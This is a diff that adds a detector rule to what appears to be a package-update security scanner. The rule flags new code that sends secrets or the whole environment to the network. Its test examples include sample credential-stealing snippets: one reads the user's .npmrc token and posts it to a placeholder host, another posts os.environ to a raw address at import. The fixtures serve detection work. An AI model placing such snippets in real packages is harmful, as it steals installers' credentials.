@@ -1,0 +1,152 @@
+"""This update leads a credential, or the whole environment, to the network.
+
+## What it detects
+A flow from the reading of a secret (token file, key, credential variable, metadata address) or of the whole
+environment to a connection or a DNS query, that the line never had. *data* means that the value itself was followed,
+*scope* that both stand in one function. Several different secrets, or a destination of a suspicious sort (raw
+address, webhook, messenger, paste site, tunnel, hidden name), make it a harvest.
+At first contact only flows in code that runs by itself are asked, and an ordinary one weighs little: installers do
+send a token to the service that issued it.
+
+## Why it matters
+32 of 75 documented incidents read credential paths or the environment; the stolen tokens publish the next ones.
+
+## What it misses
+Secrets that a caller passes in; a flow through a file, another process or another file of the package; lines that
+always sent a token somewhere and now send it elsewhere in plain sight.
+
+## References
+- MITRE ATT&CK T1552.001, T1552.005, T1041, T1567
+"""
+
+from collections.abc import Iterator
+
+from lazaretto.core.facts import Kind
+from lazaretto.core.finding import Card, Example, Finding
+from lazaretto.core.question import (
+    AUTORUN,
+    Chain,
+    Tally,
+    decoded,
+    destination,
+    hidden,
+    new_chains,
+    package_json,
+)
+from lazaretto.core.update import Pair, Update
+
+CARD = Card(
+    id="secret-flows-to-network",
+    title="A secret goes to the network",
+    variants={
+        "harvest": "Code that runs by itself sends several secrets, or sends one to a suspicious destination.",
+        "autorun-data": "In code that runs by itself the value of a secret goes to the network.",
+        "autorun-scope": "In code that runs by itself a secret is read and a connection made in one function.",
+        "call-harvest": "A function sends several secrets, or sends one to a suspicious destination.",
+        "call-data": "In a function the value of a secret goes to the network.",
+        "call-scope": "In a function a secret is read and a connection made.",
+        "first-contact-harvest": "No earlier release; code that runs by itself sends several secrets or hides where to.",
+        "first-contact": "No earlier release; code that runs by itself sends a secret.",
+    },
+    group="flow",
+    why="What is read here belongs to whoever installs the package.",
+    attack=("T1195.002", "T1552.001", "T1041"),
+)
+
+_SOURCES = (Kind.SECRET_READ, Kind.ENV_DUMP)
+_SINKS = (Kind.NET_CONNECT, Kind.DNS_QUERY)
+_MANY = 3
+
+_BEFORE = {"package.json": package_json("1.0.0"), "index.js": "module.exports = (a) => a;\n"}
+_CLIENT = (
+    "exports.call = function call() {\n"
+    "  return fetch('https://api.invalid/v1', { headers: { authorization: process.env.API_TOKEN } });\n};\n"
+)
+
+EXAMPLES = (
+    Example(
+        title="the entry file posts the user's registry token",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "const fs = require('fs');\nconst os = require('os');\n"
+            "const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
+            "fetch('https://collect.invalid/in', { method: 'POST', body: token });\n"
+            "module.exports = (a) => a;\n",
+        },
+        expect="autorun-data",
+        at="index.js:3",
+    ),
+    Example(
+        title="a Python package posts the whole environment to a bare address at import",
+        ecosystem="pypi",
+        before={"pad/__init__.py": "WIDTH = 2\n"},
+        after={
+            "pad/__init__.py": "import json, os, urllib.request\n"
+            "data = json.dumps(dict(os.environ)).encode()\n"
+            "urllib.request.urlopen('http://198.51.100.7/in', data=data)\nWIDTH = 2\n"
+        },
+        expect="harvest",
+        at="pad/__init__.py:2",
+    ),
+    Example(
+        title="a client library sends its token to its own service, as it always did",
+        before={"package.json": package_json("1.0.0"), "index.js": _CLIENT},
+        after={"package.json": package_json("1.1.0"), "index.js": _CLIENT.replace("v1", "v2")},
+    ),
+    Example(
+        title="a program reads its own settings from the environment and connects",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "const level = process.env.LOG_LEVEL;\n"
+            "exports.send = function send(text) { return fetch('https://log.invalid/' + level, { body: text }); };\n",
+        },
+    ),
+)
+
+_MESSAGES = {
+    "harvest": "sends secrets to the network without being called",
+    "autorun-data": "sends a secret to the network without being called",
+    "autorun-scope": "reads a secret and connects to the network without being called",
+    "call-harvest": "sends secrets to the network when it is called",
+    "call-data": "sends a secret to the network when it is called",
+    "call-scope": "reads a secret and connects to the network when it is called",
+    "first-contact-harvest": "sends secrets to the network without being called",
+    "first-contact": "sends a secret to the network without being called",
+}
+
+
+def detect(update: Update) -> Iterator[Finding]:
+    """Yield one finding for each variant; the strongest variant of a file takes all its flows."""
+    tally = Tally(CARD)
+    for pair in update.pairs:
+        files: dict[str, list[tuple[Chain, bool]]] = {}
+        for chain, new_kind in new_chains(pair, _SOURCES, _SINKS):
+            files.setdefault(chain.source.path, []).append((chain, new_kind))
+        for path, found in files.items():
+            for variant, chain in _judge(pair, found):
+                tally.add(variant, pair, chain.source, chain.sink)
+                tally.explain(variant, decoded(pair, path))
+    yield from tally.findings(_MESSAGES)
+
+
+def _judge(pair: Pair, found: list[tuple[Chain, bool]]) -> Iterator[tuple[str, Chain]]:
+    for autorun in (True, False):
+        here = [(chain, new_kind) for chain, new_kind in found if (chain.reach in AUTORUN) is autorun]
+        harvest = _is_harvest(pair, [chain for chain, _ in here])
+        for chain, new_kind in here:
+            if pair.before is None:
+                if autorun:
+                    yield "first-contact-harvest" if harvest else "first-contact", chain
+            elif harvest:
+                yield "harvest" if autorun else "call-harvest", chain
+            elif new_kind:
+                yield f"{'autorun' if autorun else 'call'}-{'data' if chain.data else 'scope'}", chain
+
+
+def _is_harvest(pair: Pair, found: list[Chain]) -> bool:
+    """Whether flows that are new together are more than a client with its own token."""
+    secrets = {chain.source.fact.value for chain in found if chain.source.fact.kind is Kind.SECRET_READ} - {None}
+    gone_to = [chain.sink.fact for chain in found if chain.data]
+    return len(secrets) >= _MANY or any(destination(fact.value) or hidden(fact) for fact in gone_to)
